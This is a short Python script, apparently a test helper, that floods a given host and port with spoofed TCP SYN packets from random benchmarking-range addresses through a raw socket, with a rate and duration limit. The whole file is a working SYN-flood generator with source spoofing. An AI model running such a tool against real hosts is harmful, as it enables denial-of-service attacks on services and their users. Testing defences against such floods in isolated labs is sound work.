"""Sends spoofed SYNs to DST:PORT through a raw socket: RATE a second for
SECONDS (so at most RATE * SECONDS), from random sources in 198.18.0.0/15
(the benchmarking range: nothing answers there, and the namespace has no
route to it, so the SYN-ACKs go nowhere). Prints "flooding" as it starts
and how many it sent at the end."""
import random
import socket
import struct
import sys
import time

dst, port, rate, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
dst_bytes = socket.inet_aton(dst)
rng = random.Random(1)


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(src_bytes, sport, seq):
    mss = struct.pack("!BBH", 2, 4, 1460)
    tcp = struct.pack("!HHIIBBHHH", sport, port, seq, 0, (5 + 1) << 4, 0x02, 65535, 0, 0) + mss
    pseudo = src_bytes + dst_bytes + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, socket.IPPROTO_TCP, 0,
                     src_bytes, dst_bytes)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
print("flooding", flush=True)
start = time.monotonic()
sent, total = 0, int(rate * seconds)
while sent < total and time.monotonic() - start < 2 * seconds:
    due = min(int((time.monotonic() - start) * rate) + 1, total)
    while sent < due:
        src = struct.pack("!I", 0xC6120000 | rng.getrandbits(17))   # 198.18.0.0/15
        s.sendto(syn(src, rng.randrange(1024, 65536), rng.getrandbits(32)), (dst, 0))
        sent += 1
    time.sleep(0.001)
print(f"sent {sent} SYNs", flush=True)
